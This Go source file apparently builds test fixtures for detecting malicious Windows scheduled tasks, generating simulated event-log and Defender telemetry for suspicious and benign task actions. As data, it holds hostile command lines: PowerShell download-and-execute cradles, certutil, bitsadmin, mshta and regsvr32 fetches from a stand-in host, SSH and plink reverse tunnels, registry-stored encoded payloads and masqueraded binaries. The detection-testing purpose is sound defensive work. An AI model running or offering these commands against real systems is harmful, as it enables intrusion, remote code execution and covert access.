package behaviours

import (
	"fmt"
	"strings"
)

// told tells of one action in each way in which it is recorded: when it is registered,
// when it is stored and when it runs. The scheduler's own log knows no arguments.
func told(id string, t tsk, p process) []facet {
	p.system = strings.Contains(t.principal, "S-1-5-18")
	if p.line == "" {
		p.line = strings.TrimSpace(t.command + " " + t.args)
	}
	path := func(store string) tsk {
		t := t
		t.path = `\Facet ` + id + " " + store
		return t
	}
	t.path = `\Contoso\Job`
	list := []facet{
		hit(id+"-4698", func(h *host) { h.registered4698(t) }),
		hit(id+"-4702", func(h *host) { h.updated4702(t) }),
		hit(id+"-mde-created", func(h *host) { h.scheduledRow("ScheduledTaskCreated", t, true) }),
		hit(id+"-xml", func(h *host) { h.taskFile(path("xml")) }).of(path("xml").path),
		hit(id+"-hive", func(h *host) { h.registry(cached{tsk: path("hive")}) }).of(path("hive").path),
		hit(id+"-4688", func(h *host) { h.otherTasks().started4688(p) }),
		hit(id+"-sysmon1", func(h *host) { h.started1(p) }),
		hit(id+"-mde-process", func(h *host) { h.startedRow(p) }),
	}
	if t.args == "" {
		list = append(list,
			hit(id+"-129", func(h *host) {
				h.scheduler(129, "TaskName", t.path, "Path", t.command, "ProcessID", "6300", "Priority", "16384")
			}),
			hit(id+"-200", func(h *host) {
				h.scheduler(200, "TaskName", t.path, "ActionName", t.command, "TaskInstanceId", "{ab000000-0000-4000-8000-000000000033}", "EnginePID", "4321")
			}))
	}
	return list
}

func toldQuiet(id string, t tsk, p process) []facet {
	list := told(id, t, p)
	for i := range list {
		list[i].quiet = true
	}
	return list
}

// lower asks for no more than low of all.
func lower(list []facet) []facet {
	for i := range list {
		list[i] = list[i].low()
	}
	return list
}

// runs is what a task runs.
func runs() []facet {
	var list []facet
	add := func(more ...facet) { list = append(list, more...) }
	user := func(command, args string) tsk { return tsk{command: command, args: args} }
	sys := func(command, args string) tsk { return tsk{command: command, args: args, principal: asLocal} }
	at := func(image string) process { return process{image: image} }
	const win = `C:\Windows\System32\`

	// B33
	// Much software of users lies in AppData and ProgramData: that alone is weak.
	for i, path := range []string{`C:\Users\Public\@HOST@\r.exe`, `C:\Users\mira\AppData\Roaming\@HOST@\r\r.exe`, `C:\Windows\Temp\r.exe`, `C:\PerfLogs\r.exe`, `C:\Tmp\r.exe`, `C:\ProgramData\@HOST@\r.exe`, `C:\$Recycle.Bin\r.exe`, `C:\Users\mira\Downloads\r.exe`} {
		if i > 1 {
			all := told(fmt.Sprintf("b33%c", 'a'+i), user(path, ""), at(path))
			all = append(all[:1], all[7:]...)
			if i == 5 {
				all = lower(all)
			}
			add(all...)
			continue
		}
		all := told(fmt.Sprintf("b33%c", 'a'+i), user(path, ""), at(path))
		if i == 1 {
			all = lower(all)
		}
		add(all...)
	}
	add(hit("b33-variable-129", func(h *host) {
		h.scheduler(129, "TaskName", `\Contoso\Job`, "Path", `%TEMP%\r.exe`, "ProcessID", "6300", "Priority", "16384")
	}))
	add(toldQuiet("b33q-onedrive", tsk{command: `%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`, author: "Microsoft Corporation"}, process{image: `C:\Users\mira\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`, line: `C:\Users\mira\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`})[5:]...)
	add(toldQuiet("b33q-defender", sys(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`, "Scan -ScheduleJob"), at(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`))[5:]...)
	add(toldQuiet("b33q-program", user(`C:\Program Files\Contoso @HOST@\sync.exe`, ""), at(`C:\Program Files\Contoso @HOST@\sync.exe`))...)
	// B34
	add(told("b34", sys(`C:\Users\Public\@HOST@\test.exe`, ""), at(`C:\Users\Public\@HOST@\test.exe`))...)
	// B35
	add(told("b35", sys("cmd.exe", `/c start /min C:\ProgramData\@HOST@\r.bat`), at(shell))...)
	add(toldQuiet("b35q-logging", tsk{command: `%systemroot%\system32\cmd.exe`, args: `/d /c %systemroot%\system32\silcollector.cmd publish`, principal: asLocal, author: `Microsoft Corporation`}, process{image: shell, line: `C:\Windows\system32\cmd.exe /d /c C:\Windows\system32\silcollector.cmd publish`})[5:]...)
	// B36
	for i, args := range []string{
		`-NoP -W Hidden -Enc ` + encoded(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/@HOST@a')`),
		`-w hidden -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/@HOST@a')"`,
		`-ExecutionPolicy Bypass -File C:\Users\Public\@HOST@\r.ps1`,
		`/e ` + encoded(`Start-Process C:\Users\Public\@HOST@\r.exe`),
	} {
		add(told(fmt.Sprintf("b36%c", 'a'+i), user("powershell.exe", args), at(powershell))...)
	}
	add(toldQuiet("b36q-script", tsk{command: powershell, args: `-NonInteractive -File "C:\Program Files\Contoso @HOST@\inventory.ps1"`, principal: asLocal, author: "Contoso"}, at(powershell))...)
	// B37
	add(told("b37a", user("wscript.exe", `C:\Users\mira\AppData\Roaming\@HOST@\u.vbs`), at(win+"wscript.exe"))...)
	add(told("b37b", user("mshta.exe", `http://203.0.113.7/@HOST@a.hta`), at(win+"mshta.exe"))...)
	add(told("b37c", user("wscript.exe", `/e:jscript C:\ProgramData\@HOST@\u.dat`), at(win+"wscript.exe"))...)
	add(hit("b37-129", func(h *host) {
		h.scheduler(129, "TaskName", `\Contoso\Job`, "Path", "mshta.exe", "ProcessID", "6300", "Priority", "16384")
	}).low())
	add(toldQuiet("b37q-network", tsk{command: `%windir%\system32\gatherNetworkInfo.vbs`, author: "$(@%SystemRoot%\\system32\\nettrace.dll,-6911)"}, process{image: win + "wscript.exe", line: `"C:\Windows\System32\WScript.exe" "C:\Windows\system32\gatherNetworkInfo.vbs"`})[5:]...)
	// B38
	add(told("b38a", user("rundll32.exe", `C:\Users\mira\AppData\Local\x\q.dll,#1`), at(win+"rundll32.exe"))...)
	add(told("b38b", user("regsvr32.exe", `/s /u /i:http://203.0.113.7/@HOST@a.sct scrobj.dll`), at(win+"regsvr32.exe"))...)
	add(told("b38c", user("rundll32.exe", `C:\ProgramData\@HOST@\qwe.tmp,DllRegisterServer`), at(win+"rundll32.exe"))...)
	add(toldQuiet("b38q", tsk{command: `%windir%\system32\rundll32.exe`, args: `%windir%\system32\PcaSvc.dll,PcaPatchSdbTask`, principal: asLocal, author: `$(@%SystemRoot%\system32\pcasvc.dll,-1)`}, process{image: win + "rundll32.exe", line: `C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`})[5:]...)
	// B39
	for i, a := range [][2]string{
		{"msbuild.exe", `C:\Users\Public\@HOST@\p.csproj`}, {"installutil.exe", `/logfile= /U C:\Users\Public\@HOST@\p.dll`}, {"regasm.exe", `/u C:\ProgramData\@HOST@\p.dll`}, {"forfiles.exe", `/p c:\windows\system32 /m notepad.exe /c C:\Users\Public\@HOST@\r.exe`},
		{"conhost.exe", `--headless C:\Users\Public\@HOST@\r.exe`}, {"msiexec.exe", `/q /i http://203.0.113.7/@HOST@a.msi`}, {"pcalua.exe", `-a C:\Users\Public\@HOST@\r.exe`}, {"cmstp.exe", `/ni /s C:\ProgramData\@HOST@\p.inf`},
		{"odbcconf.exe", `/a {REGSVR C:\ProgramData\@HOST@\p.dll}`}, {"certutil.exe", `-urlcache -split -f http://203.0.113.7/@HOST@a C:\ProgramData\@HOST@\a.exe`}, {"bitsadmin.exe", `/transfer j http://203.0.113.7/@HOST@a C:\ProgramData\@HOST@\a.exe`},
		{"curl.exe", `-o C:\ProgramData\@HOST@\a.exe http://203.0.113.7/@HOST@a`}, {"hh.exe", `http://203.0.113.7/@HOST@a.chm`}, {"control.exe", `C:\ProgramData\@HOST@\p.cpl`}, {"scriptrunner.exe", `-appvscript C:\Users\Public\@HOST@\r.exe`},
		{"wmic.exe", `os get /format:"http://203.0.113.7/@HOST@a.xsl"`}, {"ftp.exe", `-s:C:\ProgramData\@HOST@\f.txt`}, {"sc.exe", `\\srv02 create x binPath= C:\ProgramData\@HOST@\a.exe`},
	} {
		image := win + a[0]
		all := told(fmt.Sprintf("b39%c", 'a'+i), user(a[0], a[1]), at(image))
		add(all[0], all[2], all[4], all[5], all[6])
	}
	for i, a := range [][2]string{{"sc.exe", "start wuauserv"}, {"defrag.exe", "-c -h -o -$"}, {"wermgr.exe", "-upload"}, {"bcdboot.exe", `C:\Windows /sysrepair`}, {"forfiles.exe", `/p "C:\inetpub\logs" /s /m *.log /d -30 /c "cmd /c del @path"`}} {
		all := toldQuiet(fmt.Sprintf("b39q%c", 'a'+i), sys(`%windir%\system32\`+a[0], a[1]), process{image: win + a[0], line: win + a[0] + " " + a[1]})
		add(all[0], all[5], all[6], all[7])
	}
	// B40
	add(told("b40a", user(`C:\Users\mira\AppData\Local\x\python.exe`, `C:\Users\mira\AppData\Local\x\a.py`), process{image: `C:\Users\mira\AppData\Local\x\python.exe`, original: "python.exe"})...)
	auto := process{image: `C:\Contoso\@HOST@\u.exe`, line: `C:\Contoso\@HOST@\u.exe C:\Contoso\@HOST@\u.a3x`, original: "AutoIt3.exe"}
	add(hit("b40-autoit-sysmon1", func(h *host) { h.started1(auto) }))
	add(hit("b40-autoit-mde-process", func(h *host) { h.startedRow(auto) }))
	py := process{image: `C:\Contoso\@HOST@\rt\svc.exe`, line: `C:\Contoso\@HOST@\rt\svc.exe -m agent`, original: "pythonw.exe"}
	add(hit("b40-renamed-sysmon1", func(h *host) { h.started1(py) }))
	add(hit("b40-renamed-mde-process", func(h *host) { h.startedRow(py) }))
	add(quiet("b40-program-mde-process", func(h *host) {
		h.startedRow(process{image: `C:\Program Files\Python312\python.exe`, line: `"C:\Program Files\Python312\python.exe" "C:\Program Files\Contoso @HOST@\report.py"`, original: "python.exe"})
	}))
	// B41
	add(told("b41", user("powershell.exe", `-w hidden -c "IEX ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String((gp HKCU:\Software\Classes\x).y)))"`), at(powershell))...)
	add(told("b41b", user("cmd.exe", `/c start /min "" powershell.exe -Command IEX((Get-ItemProperty HKCU:\SOFTWARE\ATOMIC).test)`), at(shell))...)
	// B42
	for i, a := range [][2]string{{`\\203.0.113.7\share\r.exe`, ""}, {`\\files@SSL\DavWWWRoot\r.exe`, ""}, {`C:\Windows\Tasks\x.txt:r.exe`, ""}, {`\\.\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\r.exe`, ""}, {"cmd.exe", `/c \\10.0.0.8\c$\r.bat`}} {
		all := told(fmt.Sprintf("b42%c", 'a'+i), user(a[0], a[1]), process{image: a[0], line: strings.TrimSpace(a[0] + " " + a[1])})
		add(all[0], all[2], all[3], all[4], all[6], all[7])
	}
	// B43
	add(told("b43a", sys(`C:\Windows\System32\OpenSSH\ssh.exe`, `-N -R 3389:127.0.0.1:3389 t@203.0.113.7 -i C:\ProgramData\@HOST@\k`), at(`C:\Windows\System32\OpenSSH\ssh.exe`))...)
	add(told("b43b", sys(`C:\ProgramData\@HOST@\ssh\sshd.exe`, `-f C:\ProgramData\@HOST@\ssh\c`), at(`C:\ProgramData\@HOST@\ssh\sshd.exe`))...)
	add(told("b43c", user(`C:\Contoso\@HOST@\plink.exe`, `-batch -R 4444:127.0.0.1:22 203.0.113.7`), at(`C:\Contoso\@HOST@\plink.exe`))...)
	// B46
	add(told("b46a", user(`C:\Contoso\@HOST@\svchost.exe`, ""), process{image: `C:\Contoso\@HOST@\svchost.exe`})...)
	renamed := process{image: `C:\Contoso\@HOST@\officeupdate.exe`, line: `C:\Contoso\@HOST@\officeupdate.exe C:\Contoso\@HOST@\a.dll,Run`, original: "RUNDLL32.EXE", company: "Microsoft Corporation"}
	add(hit("b46-renamed-sysmon1", func(h *host) { h.started1(renamed) }))
	add(hit("b46-renamed-mde-process", func(h *host) { h.startedRow(renamed) }))
	add(quiet("b46-genuine-mde-process", func(h *host) {
		h.startedRow(process{image: win + "taskhostw.exe", line: "taskhostw.exe", original: "taskhostw.exe", company: "Microsoft Corporation"})
	}))

	// B44: what is known of the file
	const sha = "4444444444444444444444444444444444444444"
	agent := process{image: `C:\Program Files\Vendor @HOST@\agent.exe`, sha1: sha, system: true}
	add(hit("b44-mde-certificate", func(h *host) {
		h.startedRow(agent)
		h.row("DeviceFileCertificateInfo", "SHA1", sha, "IsSigned", false, "IsTrusted", false)
	}).low())
	add(hit("b44-sysmon7", func(h *host) {
		p := agent
		p.sha1 = "4545454545454545454545454545454545454545"
		h.started1(p)
		h.sysmon(7, "ProcessGuid", h.guid(1), "ProcessId", h.pid, "Image", p.image, "ImageLoaded", p.image, "Hashes", "SHA1="+p.sha1, "Signed", "false", "SignatureStatus", "Unavailable", "User", `NT AUTHORITY\SYSTEM`)
	}).low())
	add(quiet("b44-signed-mde-certificate", func(h *host) {
		p := agent
		p.sha1 = "4646464646464646464646464646464646464646"
		h.startedRow(p)
		h.row("DeviceFileCertificateInfo", "SHA1", p.sha1, "IsSigned", true, "IsTrusted", true, "Signer", "Contoso Ltd")
	}))
	add(quiet("b44-signed-sysmon7", func(h *host) {
		p := agent
		p.sha1 = "4747474747474747474747474747474747474747"
		h.started1(p)
		h.sysmon(7, "ProcessGuid", h.guid(1), "ProcessId", h.pid, "Image", p.image, "ImageLoaded", p.image, "Hashes", "SHA1="+p.sha1, "Signed", "true", "Signature", "Contoso Ltd", "SignatureStatus", "Valid", "User", `NT AUTHORITY\SYSTEM`)
	}))
	return list
}
